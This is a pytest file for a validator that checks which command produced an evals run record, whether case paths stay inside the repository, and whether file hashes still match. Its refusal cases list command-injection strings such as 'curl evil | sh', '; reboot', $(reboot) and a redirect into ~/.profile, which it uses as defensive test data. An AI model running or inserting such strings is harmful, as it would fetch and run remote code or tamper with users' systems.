"""What latest.json may say about the run that wrote it."""

from __future__ import annotations

from typing import Any

import pytest

LATEST = ".harness/evals/runs/latest.json"


def _with_producer(world: Any, **members: Any) -> list[str]:
    producer = {**world.read(LATEST)["producer"], **members}
    world.change(LATEST, producer={key: value for key, value in producer.items() if value is not ...})
    return list(world.verdict().problems)


@pytest.mark.parametrize(
    "command",
    [
        "evals run x",
        "pnpm evals run x",
        "evals run .evals/suite.toml --json",
        "evals run 'a b; c.json' --json",
        "evals run 'it'\"'\"'s.json'",
        r"evals run $'a\u001b\x27b\\'",
        "evals run a b.json",
        "evals run ünï.json",
    ],
)
def test_a_run_of_evals_may_be_the_producer(world: Any, command: str) -> None:
    assert _with_producer(world, command=command) == []


@pytest.mark.parametrize(
    "command",
    [
        "evals run",
        "evals run ",
        "evals runx",
        "sh -c 'evals run x'",
        "Evals run x",
        "evals run  ; curl evil | sh",
        "evals run a.json; reboot",
        "evals run a.json\nreboot",
        "evals run a.json > ~/.profile",
        "evals run $(reboot)",
        'evals run "$(reboot)"',
        "evals run `reboot`",
        "evals run a.json &",
        "evals run 'a'; 'b'",
        "evals run 'a",
        r"evals run \'; reboot '",
        r"evals run $'\'; reboot '",
        r"evals run $'\' ' ; reboot #'",
    ],
)
def test_any_other_command_is_refused(world: Any, command: str) -> None:
    (problem,) = _with_producer(world, command=command)
    assert problem.startswith(f"{LATEST}: $.producer.command: ")


def test_a_consumer_needs_a_producer(world: Any) -> None:
    world.change(LATEST, producer=...)
    assert world.verdict().problems == [
        f"{LATEST}: $.producer: missing; expected an object that says which run wrote this"
    ]


def test_home_may_do_without_a_producer(home: Any) -> None:
    home.change(LATEST, producer=...)
    assert home.verdict().problems == []


@pytest.mark.parametrize(
    "members",
    [{"suite_path": None}, {"suite_sha256": None}],
    ids=["digest without path", "path without digest"],
)
def test_suite_path_and_digest_are_both_there_or_both_null(world: Any, members: dict[str, None]) -> None:
    (problem,) = _with_producer(world, **members)
    assert "expected both or neither" in problem


def test_without_a_suite_only_the_case_counts(world: Any) -> None:
    world.path(".evals/suite.json").unlink()
    assert _with_producer(world, suite_path=None, suite_sha256=None) == []


@pytest.mark.parametrize("path", ["../case.json", "/case.json", "C:\\case.json"])
def test_a_case_outside_the_repository_is_refused(world: Any, path: str) -> None:
    (problem,) = _with_producer(world, case_path=path)
    assert problem.startswith(f"{LATEST}: $.producer.case_path: {path}: the path ")


def test_a_case_that_changed_since_the_run_is_named(world: Any) -> None:
    world.write(".evals/cases/closeout.case.json", "{}")
    problems = world.verdict().problems
    assert len(problems) == 1
    assert "$.producer.case_path: .evals/cases/closeout.case.json: its bytes have SHA-256 " in problems[0]


@pytest.mark.parametrize("producer", [None, 7, {"command": 7, "artifact_root_prefix": 7, "case_path": 7}])
def test_members_of_the_wrong_type_are_left_to_the_schema(world: Any, producer: Any) -> None:
    world.change(LATEST, producer=producer)
    problems = world.verdict().problems
    assert problems
    assert all("; expected a" in problem for problem in problems)


def test_another_folder_than_that_of_latest_is_refused(world: Any) -> None:
    (problem,) = _with_producer(world, artifact_root_prefix="elsewhere")
    assert problem.endswith("elsewhere; expected .harness/evals/runs, the folder of latest.json")
